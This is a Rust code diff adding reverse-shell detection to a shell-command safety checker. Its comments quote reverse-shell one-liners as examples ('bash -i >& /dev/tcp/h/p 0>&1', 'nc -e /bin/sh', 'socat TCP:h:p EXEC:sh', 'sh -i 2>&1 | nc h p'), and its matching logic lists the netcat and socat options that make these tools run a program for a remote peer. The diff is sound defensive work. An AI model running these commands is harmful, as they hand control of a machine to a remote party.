@@ -32,7 +32,8 @@ use super::rules;
 use crate::config::reader::shorten;
 use crate::paths;
 use crate::prelude::*;
-use crate::shell::commands::{self, Analysis, Arg, Invocation, ProblemKind};
+use crate::shell::ast::RedirectOp;
+use crate::shell::commands::{self, Analysis, Arg, Invocation, ProblemKind, Redir};
 use crate::shell::interpreters::Effect;
 use crate::shell::programs::{Names, Table};
 use crate::shell::secrets::{self, SecretOutput};
@@ -136,6 +137,7 @@ pub fn check_parsed(places: &Places<'_>, parsed: &Result<Script, ParseError>, cw
         recursive_delete(places, inv, &mut out);
         let formatted = super::devices::check(&analysis, inv, places.home, &mut out);
         download_execute(&analysis, index, inv, &mut out);
+        remote_shell(&analysis, index, inv, &mut out);
         fork_bomb(inv, &mut out);
         shutdown(inv, &mut out);
         firewall(inv, &mut out);
@@ -231,11 +233,10 @@ fn recursive_delete(places: &Places<'_>, inv: &Invocation, out: &mut Vec<Finding
 }
 
 fn download_execute(analysis: &Analysis, index: usize, inv: &Invocation, out: &mut Vec<Finding>) {
-    let downloader = |i: &Invocation| i.class.is(Table::Downloader);
-    let from_code = inv.code_from.iter().any(|r| analysis.within(r).iter().any(downloader));
-    let from_pipe =
-        inv.runs_stdin && analysis.invocations.iter().any(|other| downloader(other) && analysis.upstream(other, inv));
-    let saved = inv.runs_files.iter().find(|f| analysis.downloads.iter().any(|(d, at)| d == *f && *at < index));
+    // Downloaded content: from a downloader, or from a program reading a downloaded file (`cat x.sh | sh`).
+    let from_code = inv.code_from.iter().any(|r| r.clone().any(|i| analysis.yields_download(i)));
+    let from_pipe = inv.runs_stdin && analysis.fed_download(inv);
+    let saved = inv.runs_files.iter().find(|f| analysis.downloaded(f, index));
     if from_code || from_pipe {
         out.push(finding(rules::EXEC_DOWNLOAD_EXECUTE, format!("{} runs code it downloads.", Quoted(inv))));
     } else if let Some(file) = saved {
@@ -251,6 +252,76 @@ fn download_execute(analysis: &Analysis, index: usize, inv: &Invocation, out: &m
             rules::EXEC_DYNAMIC_CODE,
             format!("{} runs code that is only known when the command runs.", Quoted(inv)),
         ));
+    }
+}
+
+/// Whether a normalized path is a network socket bash opens (`/dev/tcp/HOST/PORT`).
+fn is_socket(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// A shell or interpreter wired to the network, which then runs whatever the
+/// other end sends: its input or output a socket (`bash -i >& /dev/tcp/h/p
+/// 0>&1`, `sh < /dev/tcp/h/p`, `source /dev/tcp/h/p`, a descriptor an earlier
+/// `exec 5<>/dev/tcp/h/p` opened), its input piped from a network client
+/// (`nc h p | sh`) or its output piped to one (`sh -i 2>&1 | nc h p`), or a
+/// network tool told to run a program for its peer (`nc -e /bin/sh`,
+/// `ncat --sh-exec`, `socat TCP:h:p EXEC:sh`).
+fn remote_shell(analysis: &Analysis, index: usize, inv: &Invocation, out: &mut Vec<Finding>) {
+    let runs_socket = inv.runs_files.iter().any(|f| is_socket(f));
+    let network = |o: &Invocation| NETWORK.has(&o.program);
+    // Only a shell's output piped to the network is taken for a remote shell: an interpreter
+    // reading a here-document (`python3 - <<EOF … | curl -d @-`) sends what the script prints.
+    let shell = inv.class.is(Table::Shell);
+    let wired = inv.runs_stdin
+        && (inv
+            .redirects
+            .iter()
+            .any(|r| r.path.as_deref().is_some_and(is_socket) || opened_socket(analysis, index, r))
+            || analysis
+                .invocations
+                .iter()
+                .any(|o| network(o) && (analysis.upstream(o, inv) || (shell && analysis.upstream(inv, o)))));
+    if runs_socket || wired || runs_for_peer(inv) {
+        out.push(finding(
+            rules::EXEC_DOWNLOAD_EXECUTE,
+            format!("{} connects a shell to the network, which runs whatever the other end sends.", Quoted(inv)),
+        ));
+    }
+}
+
+/// Whether `r` points a descriptor at one an earlier invocation opened on a
+/// socket (`exec 5<>/dev/tcp/h/p; sh <&5`).
+fn opened_socket(analysis: &Analysis, index: usize, r: &Redir) -> bool {
+    if !matches!(r.op, RedirectOp::DupIn | RedirectOp::DupOut) {
+        return false;
+    }
+    let Some(fd) = r.target.known().and_then(|t| t.parse::<u32>().ok()) else { return false };
+    analysis
+        .within(&(0..index))
+        .iter()
+        .any(|earlier| earlier.redirects.iter().any(|o| o.fd == Some(fd) && o.path.as_deref().is_some_and(is_socket)))
+}
+
+/// A network tool told to run a program for its peer: netcat's `-e`/`-c`
+/// (also in a cluster, `-lvpe`), ncat's `--exec`/`--sh-exec`/`--lua-exec`,
+/// socat with an `EXEC:`/`SYSTEM:` address next to a network one.
+fn runs_for_peer(inv: &Invocation) -> bool {
+    let words = || inv.argv.iter().skip(1).filter_map(Arg::known);
+    match inv.program.as_str() {
+        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => words().any(|w| {
+            ["--exec", "--sh-exec", "--lua-exec"]
+                .iter()
+                .any(|o| w == *o || w.strip_prefix(o).is_some_and(|r| r.starts_with('=')))
+                || w.strip_prefix('-').is_some_and(|c| !c.starts_with('-') && c.contains(['e', 'c']))
+        }),
+        "socat" => {
+            let lower: Vec<String> = words().map(str::to_ascii_lowercase).collect();
+            let runs = lower.iter().any(|w| w.starts_with("exec:") || w.starts_with("system:"));
+            let remote = ["tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "dccp"];
+            runs && lower.iter().any(|w| remote.iter().any(|r| w.starts_with(r)))
+        }
+        _ => false,
     }
 }
 
